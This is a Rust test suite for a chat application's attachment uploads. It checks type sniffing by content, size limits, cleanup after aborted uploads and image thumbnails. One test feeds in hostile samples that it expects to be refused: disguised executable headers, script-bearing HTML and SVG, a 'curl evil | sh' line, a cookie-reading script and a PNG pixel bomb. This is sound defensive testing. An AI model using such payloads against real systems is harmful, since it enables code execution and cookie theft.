//! Attachments: streaming uploads judged by their bytes, sizes, images. Serving them
//! and removing them is `downloads.rs`.

use std::{io::Cursor, path::PathBuf};

use reqwest::{
    multipart::{Form, Part},
    Method, StatusCode,
};
use serde_json::{json, Value};
use sqlx::PgPool;
use tenantchat::domain::Role;

use crate::helpers::{error_code, spawn_app, Client, TestApp};

pub(crate) fn media_root(app: &TestApp) -> PathBuf {
    app.state.as_ref().unwrap().config.media_root.clone()
}

/// Every file under MEDIA_ROOT (staging included).
pub(crate) fn stored_files(app: &TestApp) -> Vec<PathBuf> {
    fn walk(dir: &std::path::Path, found: &mut Vec<PathBuf>) {
        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                walk(&path, found);
            } else {
                found.push(path);
            }
        }
    }
    let mut found = Vec::new();
    walk(&media_root(app), &mut found);
    found
}

pub(crate) fn image(format: image::ImageFormat, width: u32, height: u32) -> Vec<u8> {
    let img = image::RgbImage::from_fn(width, height, |x, y| image::Rgb([(x % 256) as u8, (y % 256) as u8, 90]));
    let mut out = Cursor::new(Vec::new());
    image::DynamicImage::ImageRgb8(img).write_to(&mut out, format).unwrap();
    out.into_inner()
}

/// A minimal OLE2 compound file whose root entry carries an Office CLSID.
fn ole2(clsid: &str) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    file.set_storage_clsid("/", clsid.parse().unwrap()).unwrap();
    file.create_stream("/Body").unwrap();
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// The start of a ZIP whose first entry is `name` (what Office and ODF sniffing reads).
pub(crate) fn zip_entry(name: &str, content: &[u8]) -> Vec<u8> {
    let mut bytes = b"PK\x03\x04".to_vec();
    bytes.extend_from_slice(&[0; 22]);
    bytes.extend_from_slice(&(name.len() as u16).to_le_bytes());
    bytes.extend_from_slice(&[0, 0]);
    bytes.extend_from_slice(name.as_bytes());
    bytes.extend_from_slice(content);
    bytes.extend_from_slice(&[0; 64]);
    bytes
}

fn samples() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    vec![
        ("photo.jpg", image(image::ImageFormat::Jpeg, 40, 30), "image/jpeg"),
        ("diagram.png", image(image::ImageFormat::Png, 40, 30), "image/png"),
        ("anim.gif", image(image::ImageFormat::Gif, 40, 30), "image/gif"),
        ("pic.webp", image(image::ImageFormat::WebP, 40, 30), "image/webp"),
        (
            "report.pdf",
            b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n".to_vec(),
            "application/pdf",
        ),
        (
            "letter.doc",
            ole2("00020906-0000-0000-c000-000000000046"),
            "application/msword",
        ),
        (
            "sheet.xls",
            ole2("00020820-0000-0000-c000-000000000046"),
            "application/vnd.ms-excel",
        ),
        (
            "deck.ppt",
            ole2("64818d10-4f9b-11cf-86ea-00aa00b929e8"),
            "application/vnd.ms-powerpoint",
        ),
        (
            "letter.docx",
            zip_entry("word/document.xml", b"<w/>"),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "sheet.xlsx",
            zip_entry("xl/workbook.xml", b"<x/>"),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            "deck.pptx",
            zip_entry("ppt/presentation.xml", b"<p/>"),
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ),
        (
            "text.odt",
            zip_entry("mimetype", b"application/vnd.oasis.opendocument.text"),
            "application/vnd.oasis.opendocument.text",
        ),
        (
            "calc.ods",
            zip_entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
            "application/vnd.oasis.opendocument.spreadsheet",
        ),
        (
            "notes.txt",
            "plain text, çà et là\n".as_bytes().to_vec(),
            "text/plain; charset=utf-8",
        ),
        ("data.csv", b"name,qty\napples,3\n".to_vec(), "text/csv; charset=utf-8"),
    ]
}

pub(crate) async fn upload(
    client: &mut Client,
    conversation: &str,
    content: &str,
    files: Vec<(String, Vec<u8>, String)>,
) -> (StatusCode, Value) {
    let mut form = Form::new().text("content", content.to_string());
    for (name, bytes, mime) in files {
        form = form.part(
            "attachments",
            Part::bytes(bytes).file_name(name).mime_str(&mime).unwrap(),
        );
    }
    let req = client
        .request(
            Method::POST,
            &format!("/api/chat/conversations/{conversation}/messages/"),
        )
        .multipart(form);
    client.send(req).await
}

pub(crate) async fn download(client: &Client, url: &str) -> reqwest::Response {
    client.request(Method::GET, url).send().await.unwrap()
}

pub(crate) async fn pair(app: &TestApp) -> (Client, Client, String) {
    let acme = app.tenant("acme").await;
    let mut ana = app.member(&acme, "Ana", Role::Admin).await;
    let bruno = app.member(&acme, "Bruno", Role::Write).await;
    let id = ana.start_with(bruno.user_id).await;
    (ana, bruno, id)
}

#[sqlx::test]
async fn every_allowed_type_round_trips_byte_for_byte(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (mut ana, bruno, id) = pair(&app).await;
    let samples = samples();
    for chunk in samples.chunks(10) {
        // Declared types are deliberately useless: the bytes decide.
        let files = chunk
            .iter()
            .map(|(name, bytes, _)| (name.to_string(), bytes.clone(), "application/octet-stream".to_string()))
            .collect();
        let (status, message) = upload(&mut ana, &id, "files", files).await;
        assert_eq!(status, StatusCode::CREATED, "{message}");
        assert_eq!(message["has_attachments"], true);
        let attachments = message["attachments"].as_array().unwrap();
        assert_eq!(attachments.len(), chunk.len());
        for ((name, bytes, mime), attachment) in chunk.iter().zip(attachments) {
            assert_eq!(attachment["filename"], *name);
            assert_eq!(attachment["content_type"], *mime, "{name}");
            assert_eq!(attachment["size"], bytes.len());
            let resp = download(&bruno, attachment["url"].as_str().unwrap()).await;
            assert_eq!(resp.status(), StatusCode::OK, "{name}");
            assert_eq!(resp.headers()["content-type"], *mime);
            assert_eq!(resp.headers()["x-content-type-options"], "nosniff");
            assert_eq!(resp.headers()["content-length"], bytes.len().to_string().as_str());
            let disposition = resp.headers()["content-disposition"].to_str().unwrap().to_string();
            let inline = mime.starts_with("image/");
            assert!(
                disposition.starts_with(if inline { "inline;" } else { "attachment;" }),
                "{disposition}"
            );
            assert!(disposition.contains("filename*=UTF-8''"), "{disposition}");
            assert_eq!(
                resp.bytes().await.unwrap().as_ref(),
                bytes.as_slice(),
                "{name} changed in transit"
            );
        }
    }
    let history = ana.messages(&id, "").await;
    assert_eq!(history.len(), 2);
    assert_eq!(
        history[0]["attachments"].as_array().unwrap().len(),
        10,
        "history shows the attachments too"
    );
}

#[sqlx::test]
async fn spoofed_and_dangerous_files_are_refused_and_nothing_is_stored(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (mut ana, _, id) = pair(&app).await;
    let refused: Vec<(&str, &[u8], &str)> = vec![
        (
            "cat.png",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0",
            "image/png",
        ),
        ("setup.png", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", "image/png"),
        (
            "page.html",
            b"<!DOCTYPE html><html><script>alert(1)</script></html>",
            "text/html",
        ),
        ("page.txt", b"<html><body onload=alert(1)>", "text/plain"),
        (
            "logo.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            "image/svg+xml",
        ),
        ("run.png", b"#!/bin/sh\ncurl evil | sh\n", "image/png"),
        ("x.png", b"alert(document.cookie)", "image/png"),
        ("archive.zip", b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0", "application/zip"),
    ];
    for (name, bytes, mime) in refused {
        let files = vec![
            ("ok.txt".to_string(), b"fine".to_vec(), "text/plain".to_string()),
            (name.to_string(), bytes.to_vec(), mime.to_string()),
        ];
        let (status, body) = upload(&mut ana, &id, "sneaky", files).await;
        assert_eq!(
            error_code(status, &body, StatusCode::BAD_REQUEST),
            "validation_error",
            "{name}: {body}"
        );
        assert_eq!(body["field"], "attachments");
        assert!(
            body["message"].as_str().unwrap().contains(name),
            "the error names the file: {body}"
        );
    }
    assert!(stored_files(&app).is_empty(), "left behind: {:?}", stored_files(&app));
    assert_eq!(ana.messages(&id, "").await.len(), 0);
}

#[sqlx::test]
async fn ten_mib_is_accepted_and_one_byte_more_is_refused_without_a_trace(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (mut ana, _, id) = pair(&app).await;
    let limit = 10 * 1024 * 1024;
    let (status, body) = upload(
        &mut ana,
        &id,
        "",
        vec![("big.txt".into(), vec![b'a'; limit], "text/plain".into())],
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(stored_files(&app).len(), 1);

    let (status, body) = upload(
        &mut ana,
        &id,
        "",
        vec![("bigger.txt".into(), vec![b'a'; limit + 1], "text/plain".into())],
    )
    .await;
    assert_eq!(error_code(status, &body, StatusCode::BAD_REQUEST), "validation_error");
    assert_eq!(body["field"], "attachments");
    assert_eq!(stored_files(&app).len(), 1, "the refused file left nothing");
    assert_eq!(ana.messages(&id, "").await.len(), 1, "and no message");

    let many = (0..11)
        .map(|i| (format!("f{i}.txt"), b"x".to_vec(), "text/plain".to_string()))
        .collect();
    let (status, body) = upload(&mut ana, &id, "", many).await;
    assert_eq!(
        error_code(status, &body, StatusCode::BAD_REQUEST),
        "validation_error",
        "at most 10 files"
    );
    assert_eq!(stored_files(&app).len(), 1);
}

#[sqlx::test]
async fn a_tenant_setting_lowers_the_size_cap(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (mut ana, _, id) = pair(&app).await;
    sqlx::query("UPDATE tenants SET settings = '{\"max_upload_bytes\": 1000}'")
        .execute(&app.pool)
        .await
        .unwrap();
    let (status, body) = upload(
        &mut ana,
        &id,
        "",
        vec![("a.txt".into(), vec![b'a'; 1001], "text/plain".into())],
    )
    .await;
    assert_eq!(error_code(status, &body, StatusCode::BAD_REQUEST), "validation_error");
    assert!(stored_files(&app).is_empty());
    let (status, _) = upload(
        &mut ana,
        &id,
        "",
        vec![("a.txt".into(), vec![b'a'; 1000], "text/plain".into())],
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
}

#[sqlx::test]
async fn an_upload_aborted_mid_stream_leaves_nothing(pool: PgPool) {
    use tokio::io::AsyncWriteExt;
    let app = spawn_app(pool).await;
    let (ana, _, id) = pair(&app).await;
    let addr = app.base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    let boundary = "XBOUNDARYX";
    let head = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"attachments\"; filename=\"half.txt\"\r\nContent-Type: text/plain\r\n\r\n"
    );
    let request = format!(
        "POST /api/chat/conversations/{id}/messages/ HTTP/1.1\r\nHost: {addr}\r\nCookie: {}\r\nX-CSRFToken: {}\r\n\
         Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: 5000000\r\n\r\n{head}",
        ana.cookie_header(),
        ana.csrf.clone().unwrap()
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    stream.write_all(&vec![b'a'; 1_000_000]).await.unwrap();
    stream.flush().await.unwrap();
    // The server has started staging the file: wait for it, then hang up.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while stored_files(&app).is_empty() {
        assert!(std::time::Instant::now() < deadline, "the upload never reached staging");
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    drop(stream);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !stored_files(&app).is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "left behind: {:?}",
            stored_files(&app)
        );
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    let count: i64 = sqlx::query_scalar("SELECT count(*) FROM messages")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(count, 0);
}

#[sqlx::test]
async fn images_get_dimensions_and_thumbnails_and_pixel_bombs_are_refused(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (mut ana, bruno, id) = pair(&app).await;
    let png = image(image::ImageFormat::Png, 1000, 500);
    let (status, message) = upload(
        &mut ana,
        &id,
        "look",
        vec![("wide.png".into(), png, "image/png".into())],
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{message}");
    let attachment = &message["attachments"][0];
    assert_eq!(
        (attachment["width"].clone(), attachment["height"].clone()),
        (json!(1000), json!(500))
    );
    let thumb_url = attachment["thumbnail_url"].as_str().unwrap();
    let thumb = download(&bruno, thumb_url).await;
    assert_eq!(thumb.status(), StatusCode::OK);
    assert_eq!(thumb.headers()["content-type"], "image/png");
    let thumb = image::load_from_memory(&thumb.bytes().await.unwrap()).unwrap();
    assert_eq!((thumb.width(), thumb.height()), (320, 160));

    // A valid PNG header that claims 100,000 × 100,000 pixels.
    let mut bomb = image(image::ImageFormat::Png, 1, 1);
    bomb[16..20].copy_from_slice(&100_000u32.to_be_bytes());
    bomb[20..24].copy_from_slice(&100_000u32.to_be_bytes());
    let (status, body) = upload(&mut ana, &id, "", vec![("bomb.png".into(), bomb, "image/png".into())]).await;
    assert_eq!(
        error_code(status, &body, StatusCode::BAD_REQUEST),
        "validation_error",
        "{body}"
    );
    assert_eq!(stored_files(&app).len(), 2, "only the first image and its thumbnail");
}
